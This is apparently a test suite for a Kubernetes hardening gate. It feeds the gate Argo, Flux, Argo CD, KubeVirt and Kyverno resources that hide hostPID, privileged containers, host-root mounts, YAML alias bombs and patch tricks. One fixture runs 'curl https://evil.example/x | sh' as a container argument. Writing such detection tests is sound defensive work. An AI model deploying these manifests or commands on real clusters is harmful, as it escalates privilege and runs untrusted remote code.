import { join } from 'node:path';
import * as cdk8s from 'cdk8s';
import { enforce, EnforceOptions, exempt, writeBaseline } from '../../src';
import { JsonObject } from '../../src/shape/json';
import { checked, policy, run, useFolder, write } from '../cli/support';
import { exits, filesIn, freshOutdir, gatedApp, makers, refusalOf, trusting } from '../support/apps';
import { tweak, validPod } from '../support/pods';

/*
 * Manifests in texts, which a controller applies when the gate has long been passed. What Argo Workflows makes of a podSpecPatch was
 * seen by running its steps: sigs.k8s.io/yaml, strategicpatch of k8s.io/apimachinery, encoding/json; what an operation of a JSON patch
 * does, by running gopkg.in/evanphx/json-patch.v4, which kustomize has too.
 */

const workflow = (spec: JsonObject): JsonObject => ({ apiVersion: 'argoproj.io/v1alpha1', kind: 'Workflow', metadata: { name: 'w' }, spec });
const podSpecPatch = (text: string) => workflow({ podSpecPatch: text });
const resource = (manifest: string, action = 'create') => workflow({ templates: [{ name: 't', resource: { action, manifest } }] });
const kustomization = (spec: JsonObject): JsonObject =>
  ({ apiVersion: 'kustomize.toolkit.fluxcd.io/v1', kind: 'Kustomization', metadata: { name: 'k' }, spec });
const flux = (patch: string, target: JsonObject = { kind: 'Deployment' }) => kustomization({ patches: [{ patch, target }] });
const helmRelease = (patch: string): JsonObject => ({
  apiVersion: 'helm.toolkit.fluxcd.io/v2', kind: 'HelmRelease', metadata: { name: 'h' }, spec: { postRenderers: [{ kustomize: { patches: [{ patch }] } }] },
});
const deployment = (spec: string) => `apiVersion: apps/v1\nkind: Deployment\nmetadata: { name: d }\nspec: { template: { spec: ${spec} } }\n`;
const hidden = 'apiVersion: v1\nkind: Pod\nmetadata: { name: x }\nspec:\n  hostPID: true\n  containers: [{ name: a, image: nginx }]\n';
const operation = (path: string, value: unknown, op = 'add') => JSON.stringify([{ op, path, value }]);
const nested = (levels: number, innermost: JsonObject): JsonObject =>
  levels === 0 ? innermost : resource(JSON.stringify(nested(levels - 1, innermost)));
const bomb = `a: &a [x, x, x, x, x, x, x, x, x, x]\n${'bcdefgh'.split('').map((key, index) =>
  `${key}: &${key} [${Array(10).fill(`*${'abcdefg'[index]}`).join(', ')}]`).join('\n')}\n`;

const attacks: readonly (readonly [name: string, object: JsonObject, rule: string])[] = [
  ['hostPID in a podSpecPatch', podSpecPatch('hostPID: true'), 'host-namespaces'],
  ['the same in JSON', podSpecPatch('{"hostPID":true}'), 'host-namespaces'],
  ['the same in the template of a workflow', workflow({ templates: [{ podSpecPatch: 'hostPID: true' }] }), 'host-namespaces'],
  ['the same with YAML 1.1 in mind', podSpecPatch('hostPID: yes'), 'host-namespaces'],
  ['a privileged container in a podSpecPatch', podSpecPatch('containers: [{ name: main, securityContext: { privileged: true } }]'), 'privileged'],
  ['a key in lower case, which Go takes for hostPID', podSpecPatch('hostpid: true'), 'embedded-manifest'],
  ['a key with a long s, which Go takes for hostPID', podSpecPatch('ho\u017ftPID: true'), 'embedded-manifest'],
  ['containers in upper case', podSpecPatch('Containers: [{ name: main, securityContext: { privileged: true } }]'), 'embedded-manifest'],
  ['a volume source in another case', podSpecPatch('volumes: [{ name: x, HostPath: { path: / } }]'), 'embedded-manifest'],
  ['a container that is privileged in another case', podSpecPatch('containers: [{ name: main, securitycontext: { Privileged: true } }]'), 'embedded-manifest'],
  ['null, which takes away', podSpecPatch('containers: [{ name: main, securityContext: null }]'), 'read-only-root-filesystem'],
  ['$patch: delete', podSpecPatch('containers: [{ name: main, securityContext: { $patch: delete } }]'), 'read-only-root-filesystem'],
  ['$patch: replace', podSpecPatch('containers: [{ name: main, securityContext: { $patch: replace, runAsUser: 5 } }]'), 'read-only-root-filesystem'],
  ['$patch: replace for a list', podSpecPatch('containers: [{ $patch: replace }, { name: other }]'), 'read-only-root-filesystem'],
  ['$retainKeys', podSpecPatch('containers: [{ name: main, $retainKeys: [name, image] }]'), 'read-only-root-filesystem'],
  ['$deleteFromPrimitiveList', podSpecPatch('containers: [{ name: main, securityContext: { capabilities: { $deleteFromPrimitiveList/drop: [ALL] } } }]'), 'capabilities-restricted'],
  ['a list of what is dropped without ALL', podSpecPatch('containers: [{ name: main, securityContext: { capabilities: { drop: [CHOWN] } } }]'), 'capabilities-restricted'],
  ['a second document', podSpecPatch('tolerations: []\n---\nhostIPC: true'), 'host-namespaces'],
  ['a document behind the end of one', podSpecPatch('tolerations: []\n...\n---\nhostIPC: true'), 'host-namespaces'],
  ['a separator in Windows lines', resource(`apiVersion: v1\r\nkind: ConfigMap\r\n---\r\n${hidden.replaceAll('\n', '\r\n')}`), 'host-namespaces'],
  ['a key twice', podSpecPatch('hostPID: false\nhostPID: true'), 'embedded-manifest'],
  ['a merge key', podSpecPatch('x: &x { hostPID: true }\n<<: *x'), 'host-namespaces'],
  ['a bomb of aliases', podSpecPatch(bomb), 'embedded-manifest'],
  ['YAML that does not parse', podSpecPatch('hostPID: [true'), 'embedded-manifest'],
  ['a text that holds a text', podSpecPatch('"hostPID: true"'), 'embedded-manifest'],
  ['a list in a podSpecPatch', podSpecPatch('- hostPID: true'), 'embedded-manifest'],
  ['a value of the wrong type', podSpecPatch('containers: { name: main }'), 'embedded-manifest'],
  ['a template', podSpecPatch('{{inputs.parameters.patch}}'), 'embedded-manifest'],
  ['a template between quotes, which may hold quotes', podSpecPatch('nodeSelector: { disk: "{{inputs.parameters.disk}}" }'), 'embedded-manifest'],
  ['an expression', podSpecPatch("{{=sprig.b64dec('aG9zdFBJRDogdHJ1ZQ==')}}"), 'embedded-manifest'],
  ['hostPID beside a template', podSpecPatch('hostPID: true\nnodeSelector: { disk: "{{inputs.parameters.disk}}" }'), 'host-namespaces'],
  ['a whole pod in resource.manifest', resource(hidden), 'host-namespaces'],
  ['what a whole pod lacks', resource(JSON.stringify(tweak({ 'spec.securityContext': undefined }))), 'run-as-non-root'],
  ['a pod that is applied', resource(hidden, 'apply'), 'host-namespaces'],
  ['a pod with an action that is filled in', resource(hidden, '{{inputs.parameters.action}}'), 'host-namespaces'],
  ['a patch by kubectl', resource('spec: { template: { spec: { hostNetwork: true } } }', 'patch'), 'host-namespaces'],
  ['a list of pods', resource(JSON.stringify({ apiVersion: 'v1', kind: 'List', items: [{ ...validPod, spec: { hostIPC: true, containers: [] } }] })), 'host-namespaces'],
  ['a volume of the node', resource('apiVersion: v1\nkind: PersistentVolume\nmetadata: { name: v }\nspec: { hostPath: { path: / } }'), 'host-path'],
  ['a pod that excuses itself', resource(hidden.replace('name: x', 'name: x, annotations: { ignore.cdk8s-hardened/host-namespaces: no }')), 'host-namespaces'],
  ['a manifest from an artifact', workflow({ templates: [{ resource: { action: 'create', manifestFrom: { artifact: { name: 'm' } } } }] }), 'embedded-manifest'],
  ['a manifest from a flag', workflow({ templates: [{ resource: { action: 'create', flags: ['--validate=false', '-Rf', 'https://evil.example'] } }] }), 'embedded-manifest'],
  ['a workflow in a manifest', nested(2, podSpecPatch('hostPID: true')), 'host-namespaces'],
  ['manifests in manifests in manifests', nested(4, podSpecPatch('hostPID: true')), 'embedded-manifest'],
  ['a privileged container in a Flux patch', flux(deployment('{ containers: [{ name: a, securityContext: { privileged: true } }] }')), 'privileged'],
  ['a security context of the pod, without any container', flux(deployment('{ securityContext: { runAsUser: 0 } }')), 'run-as-user'],
  ['the same for a kind that is a pattern', flux(deployment('{ securityContext: { runAsUser: 0 } }'), { kind: 'Deploymen[t]' }), 'run-as-user'],
  ['the same for a target without a kind', flux(deployment('{ securityContext: { runAsUser: 0 } }'), { labelSelector: 'a=b' }), 'run-as-user'],
  ['the same where the patch says another kind than its target', flux('kind: ConfigMap\nspec: { securityContext: { runAsUser: 0 } }', { kind: 'Pod' }), 'run-as-user'],
  ['a cron job', flux('spec: { jobTemplate: { spec: { template: { spec: { securityContext: { runAsUser: 0 } } } } } }', { kind: 'CronJob' }), 'run-as-user'],
  ['a persistent volume', flux('spec: { hostPath: { path: /etc } }', { kind: 'PersistentVolume' }), 'host-path'],
  ['a hostPath volume that is added', flux(operation('/spec/template/spec/volumes/-', { name: 'x', hostPath: { path: '/' } })), 'host-path-volumes'],
  ['the same at its path', flux(operation('/spec/template/spec/volumes/0/hostPath/path', '/')), 'host-path-volumes'],
  ['the same by a negative index', flux(operation('/spec/template/spec/volumes/-1/hostPath', { path: '/' })), 'host-path-volumes'],
  ['the same by an index with a sign', flux(operation('/spec/template/spec/volumes/+0/hostPath', { path: '/' })), 'host-path-volumes'],
  ['the same in escapes that need not be', flux('[{ op: add, path: "\\u002fspec/template/spec/hostPID", value: true }]'), 'host-namespaces'],
  ['a path without its first slash', flux(operation('x/spec/template/spec/hostPID', true)), 'embedded-manifest'],
  ['an object in one operation', flux(operation('', JSON.parse('{"spec":{"template":{"spec":{"hostPID":true}}}}'), 'replace')), 'host-namespaces'],
  ['a security context that is removed', flux(operation('/spec/template/spec/containers/0/securityContext', undefined, 'remove')), 'read-only-root-filesystem'],
  ['ALL, removed from what is dropped', flux(operation('/spec/template/spec/containers/0/securityContext/capabilities/drop/0', undefined, 'remove')), 'capabilities-restricted'],
  ['a word of a command line', flux(operation('/spec/template/spec/containers/0/args/1', 'curl https://evil.example/x | sh')), 'startup-download'],
  ['a value that is copied', flux('[{ op: copy, from: /spec/template/metadata/annotations/x, path: /spec/template/spec/hostPID }]'), 'embedded-manifest'],
  ['an operation behind one that cannot be read', flux('[{ op: move }, { op: add, path: /spec/template/spec/hostPID, value: true }]'), 'host-namespaces'],
  ['JSON operations of Flux, in no text', kustomization({ patchesJson6902: [{ target: { kind: 'Deployment' }, patch: [{ op: 'add', path: '/spec/template/spec/hostPID', value: true }] }] }), 'host-namespaces'],
  ['an object that Flux merges', kustomization({ patchesStrategicMerge: [{ kind: 'Deployment', spec: { template: { spec: { hostPID: true } } } }] }), 'host-namespaces'],
  ['a post-renderer', helmRelease(deployment('{ hostPID: true }')), 'host-namespaces'],
  ['what Flux fills in', kustomization({ postBuild: { substitute: {} }, patches: [{ patch: deployment('{ nodeSelector: { disk: "${disk}" } }') }] }), 'embedded-manifest'],
  ['an application of Argo CD', { apiVersion: 'argoproj.io/v1alpha1', kind: 'Application', spec: { source: { kustomize: { patches: [{ patch: deployment('{ hostPID: true }') }] } } } }, 'host-namespaces'],
  ['a ConfigMap that kustomize makes a pod of', { apiVersion: 'argoproj.io/v1alpha1', kind: 'Application', spec: { source: { kustomize: { patches: [{ target: { kind: 'ConfigMap' }, options: { allowKindChange: true }, patch: 'kind: Pod\nspec: { securityContext: { runAsUser: 0 } }' }] } } } }, 'run-as-user'],
  ['KubeVirt', { apiVersion: 'kubevirt.io/v1', kind: 'KubeVirt', spec: { customizeComponents: { patches: [{ resourceType: 'Deployment', patch: '{"spec":{"template":{"spec":{"hostPID":true}}}}' }] } } }, 'host-namespaces'],
  ['Kyverno', { apiVersion: 'kyverno.io/v1', kind: 'ClusterPolicy', spec: { rules: [{ mutate: { patchesJson6902: operation('/spec/hostPID', true) } }] } }, 'host-namespaces'],
];

const raw = (chart: cdk8s.Chart, object: JsonObject) => new cdk8s.ApiObject(chart, 'raw', structuredClone(object) as unknown as cdk8s.ApiObjectProps);

describe('check', () => {
  useFolder();
  beforeEach(() => write('hardened.yaml', policy));

  test.each(attacks)('finds %s', async (_name, object, rule) => {
    write('in.json', JSON.stringify(object));
    const { status, findings } = await checked('in.json');

    expect(status).toBe(1);
    expect(findings.map((finding) => finding.rule)).toContain(rule);
    expect(new Set(findings.map((finding) => finding.resource.kind))).toEqual(new Set([object.kind]));
    expect(new Set(findings.map((finding) => JSON.stringify(finding))).size).toBe(findings.length);
  });

  test.each(['baseline', 'restricted', 'hardened'])('refuses what it cannot read in the profile %s, whatever rules are asked for', async (profile) => {
    write('in.json', JSON.stringify(podSpecPatch('{{x}}')));
    const { rules } = await checked('in.json', '--profile', profile, '--only', 'privileged');

    expect(rules).toEqual({ 'embedded-manifest': 1 });
  });

  test('a baseline takes what it cannot read, and nothing new', async () => {
    write('in.json', JSON.stringify(flux('[{ op: copy, from: /a, path: /b }]')));
    expect((await run('check', 'in.json', '--write-baseline', 'b.jsonl')).status).toBe(0);
    expect((await checked('in.json', '--baseline', 'b.jsonl')).status).toBe(0);
    write('in.json', JSON.stringify(flux('[{ op: copy, from: /a, path: /b }, { op: add, path: /spec/template/spec/hostPID, value: true }]')));
    expect((await checked('in.json', '--baseline', 'b.jsonl')).rules).toEqual({ 'host-namespaces': 1 });
  });

  test('an exemption in the policy excuses what cannot be read', async () => {
    write('hardened.yaml', `${policy}exemptions: [{ rule: embedded-manifest, kind: Workflow, reason: a parameter is needed }]\n`);
    write('in.json', JSON.stringify(podSpecPatch('hostPID: true\nnodeSelector: { disk: "{{x}}" }')));
    const { rules, exempted } = await checked('in.json');

    expect(rules).toEqual({ 'host-namespaces': 1 });
    expect(exempted).toMatchObject([{ rule: 'embedded-manifest', exemption: { reason: 'a parameter is needed' } }]);
  });

  test('tells where the text stands, and what in it is wrong', async () => {
    write('in.json', JSON.stringify(resource(`${hidden}---\n${JSON.stringify(podSpecPatch('hostIPC: true'))}`)));
    const { findings } = await checked('in.json', '--profile', 'baseline');

    expect(findings).toMatchObject([
      { pointer: '/spec/templates/0/resource/manifest', message: 'in manifest at /spec/hostPID: hostPID must be false or unset, it is true' },
      {
        pointer: '/spec/templates/0/resource/manifest',
        message: 'in manifest (document 2) at /spec/podSpecPatch at /hostIPC: hostIPC must be false or unset, it is true',
      },
    ]);
  });
});

describe.each(makers)('%s', (_maker, make) => {
  test.each(attacks)('refuses %s', (_name, object, rule) => {
    const app = make();
    raw(new cdk8s.Chart(app, 'chart'), object);

    expect(refusalOf(() => app.synth()).findings.map((finding) => finding.rule)).toContain(rule);
    expect(filesIn(app.outdir)).toEqual([]);
  });

  test.each(exits)('refuses hostPID in a podSpecPatch in %s', (_exit, props, leave) => {
    const app = make(trusting, props);
    const chart = new cdk8s.Chart(app, 'chart');
    raw(chart, podSpecPatch('hostPID: true'));

    expect(refusalOf(() => leave(app, chart)).findings.map(({ rule }) => rule)).toEqual(['host-namespaces']);
  });
});

test('an exemption in code excuses what cannot be read, and nothing else', () => {
  const app = gatedApp();
  const chart = new cdk8s.Chart(app, 'chart');
  raw(chart, podSpecPatch('hostPID: true\nnodeSelector: { disk: "{{x}}" }'));
  exempt(chart, { rule: 'embedded-manifest', reason: 'a parameter is needed' });

  expect(refusalOf(() => app.synth()).findings.map(({ rule }) => rule)).toEqual(['host-namespaces']);
});

test('a baseline of the gate takes what it cannot read, and nothing new', () => {
  const build = (text: string, options: EnforceOptions) => {
    const app = gatedApp(trusting, options);
    raw(new cdk8s.Chart(app, 'chart'), podSpecPatch(text));
    return app;
  };
  const baseline = join(freshOutdir(), '..', 'baseline.jsonl');
  build('{{x}}', { mode: 'report', onVerdict: (verdict) => writeBaseline(baseline, verdict) }).synth();
  const passing = build('{{x}}', { baseline });
  passing.synth();

  expect(filesIn(passing.outdir)).toEqual(['chart.k8s.yaml']);
  expect(refusalOf(() => build('hostPID: true\nx: "{{x}}"', { baseline }).synth()).findings.map(({ rule }) => rule)).toEqual(['host-namespaces']);
});

test('a file that is included is judged alike', () => {
  const app = gatedApp();
  const file = write(`${app.outdir}/../flux.yaml`, JSON.stringify(flux(deployment('{ hostPID: true }'))));
  new cdk8s.Include(new cdk8s.Chart(app, 'chart'), 'flux', { url: file });

  expect(refusalOf(() => app.synth()).findings.map(({ rule }) => rule)).toEqual(['host-namespaces']);
});

test('a policy within another that excuses what cannot be read opens nothing', () => {
  const app = gatedApp();
  const chart = new cdk8s.Chart(app, 'chart');
  raw(chart, podSpecPatch('{{x}}'));
  enforce(chart, { ...trusting, exemptions: [{ rule: 'embedded-manifest', kind: 'Workflow', reason: 'it is mine' }] });

  expect(refusalOf(() => app.synth()).findings.map(({ rule }) => rule)).toEqual(['embedded-manifest']);
});
